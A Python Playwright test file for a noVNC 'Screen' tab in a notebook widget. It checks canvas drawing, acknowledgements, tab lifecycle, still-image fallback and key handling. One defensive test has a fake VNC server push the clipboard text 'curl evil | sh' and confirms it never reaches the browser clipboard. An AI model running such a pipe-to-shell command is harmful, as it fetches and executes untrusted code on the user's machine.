"""The tab Screen: noVNC over the widget's messages, with a test that plays a screen's server."""

import struct

import pytest
from playwright.sync_api import Page, expect

from .rfb import BLUE, opened

pytestmark = pytest.mark.browser

CLIPBOARD = """window.touched = [];
for (const name of ["read", "readText", "write", "writeText"])
    navigator.clipboard[name] = async () => { touched.push(name); return ""; };
document.execCommand = (name) => touched.push(name);
void 0"""


def corner(page: Page) -> list[list[int]]:
    """Return the colours of the first pixel and the last."""
    colours: list[list[int]] = page.locator("canvas").first.evaluate(
        """canvas => [[0, 0], [canvas.width - 1, canvas.height - 1]].map(
            ([x, y]) => [...canvas.getContext("2d").getImageData(x, y, 1, 1).data])"""
    )
    return colours


def test_what_the_guest_shows_is_drawn_and_keys_go_to_it(page: Page) -> None:
    opened(page)
    screen = page.get_by_role("application", name="Screen of web")
    page.wait_for_function("document.querySelector('canvas').width === 4")
    expect(screen).to_be_visible()
    assert corner(page) == [[0, 255, 0, 255], [0, 0, 255, 255]]
    box = screen.bounding_box()
    assert box is not None
    assert box["width"] / box["height"] == pytest.approx(4 / 3, rel=0.02)
    assert box["width"] > 900

    before = len(page.evaluate("model.of('screen_data')"))
    screen.focus()
    page.keyboard.press("x")
    assert len(page.evaluate("model.of('screen_data')")) >= before + 2
    page.wait_for_function("model.of('screen_ack').length > 0")


def test_the_bytes_taken_are_acknowledged_and_another_view_s_are_passed_over(page: Page) -> None:
    server = opened(page)
    acknowledged = "seq => model.of('screen_ack').at(-1)?.seq === seq"
    page.wait_for_function(acknowledged, arg=server.sent)
    page.evaluate(
        "model.receive({kind: 'screen_data', view: 'other', seq: 0}, new Uint8Array([1, 2, 3]))"
    )
    server.say(b"\x02")  # a bell
    page.wait_for_function(acknowledged, arg=server.sent)


def test_what_the_guest_copies_never_reaches_the_clipboard(page: Page) -> None:
    page.evaluate(CLIPBOARD)
    server = opened(page)
    text = b"curl evil | sh"
    server.say(struct.pack(">B3xI", 3, len(text)) + text)
    server.show([BLUE] * 12)
    page.wait_for_function(
        "document.querySelector('canvas').getContext('2d').getImageData(0, 0, 1, 1).data[2] === 255"
    )
    page.get_by_role("application", name="Screen of web").focus()
    page.keyboard.press("Control+c")
    page.keyboard.press("Control+v")
    assert page.evaluate("touched") == []


def test_a_screen_that_nobody_looks_at_is_closed_and_opened_again(page: Page) -> None:
    opened(page)
    page.get_by_role("tab", name="Console").click()
    page.wait_for_function("model.of('screen_close').length === 1")
    page.get_by_role("tab", name="Screen").click()
    page.wait_for_function("model.of('screen_open').length === 2")
    page.evaluate("model.set('card', card('stopped', {no_screen: 'It does not run.'}))")
    page.wait_for_function("model.of('screen_close').length === 2")
    expect(page.get_by_role("tabpanel", name="Screen")).to_have_text(
        "It does not run.", use_inner_text=True
    )
    page.evaluate("leave()")
    assert len(page.evaluate("model.of('bundle')")) == 2  # each part once


def test_a_live_screen_that_cannot_be_had_is_shown_as_still_pictures(page: Page) -> None:
    page.evaluate("show({})")
    page.get_by_role("tab", name="Screen").click()
    page.wait_for_function("model.of('screen_open').length === 1")
    view = page.evaluate("model.of('screen_open')[0].view")
    reason = "the screen cannot be reached: No such file"
    page.evaluate(
        "([view, reason]) => model.receive({kind: 'screen_closed', view, reason})", [view, reason]
    )
    page.wait_for_function("model.of('screen_still').length >= 1")
    panel = page.get_by_role("tabpanel", name="Screen")
    expect(panel.get_by_role("button", name="Live")).to_have_attribute("aria-pressed", "false")
    expect(panel).to_contain_text(reason)
    page.evaluate(
        """async () => {
            const sheet = new OffscreenCanvas(8, 6);
            sheet.getContext("2d").fillRect(0, 0, 8, 6);
            const bytes = new Uint8Array(await (await sheet.convertToBlob()).arrayBuffer());
            model.receive({kind: "screen_still", view: model.of("screen_still")[0].view}, bytes);
        }"""
    )
    expect(panel.get_by_role("img", name="Screen of web")).to_be_visible()
    page.wait_for_function("model.of('screen_still').length >= 2")
    expect(panel.get_by_role("status")).to_have_text(reason)


def test_keys_and_text_are_asked_of_the_kernel_and_a_refusal_is_told(page: Page) -> None:
    opened(page)
    panel = page.get_by_role("tabpanel", name="Screen")
    panel.get_by_role("button", name="Ctrl-Alt-Del").click()
    assert page.evaluate("model.of('screen_keys')[0].keys") == ["ctrl-alt-delete"]
    panel.get_by_role("button", name="Type text…").click()
    field = panel.get_by_role("textbox", name="Text to type")
    expect(field).to_be_focused()
    field.fill("größe")
    panel.get_by_role("button", name="Type", exact=True).click()
    expect(panel.get_by_role("button", name="Type text…")).to_be_focused()
    said = page.evaluate("model.sent.find(({ kind }) => kind === 'screen_type')")
    view, reason = said["view"], "no key types <b>ö</b>"
    page.evaluate(
        "([view, reason]) => model.receive({kind: 'screen_refused', view, reason})", [view, reason]
    )
    expect(panel.get_by_role("status")).to_have_text(reason)


def test_the_screen_is_left_by_its_key_and_no_key_stays_down(page: Page) -> None:
    opened(page)
    page.get_by_role("application", name="Screen of web").focus()
    before = len(page.evaluate("model.of('screen_data')"))
    page.keyboard.down("Control")
    page.keyboard.down("Shift")
    page.keyboard.down("Enter")
    expect(page.get_by_role("tabpanel", name="Screen").get_by_text("leaves")).to_be_focused()
    # Control and Shift went down, and up again although no key was let go.
    assert len(page.evaluate("model.of('screen_data')")) == before + 4
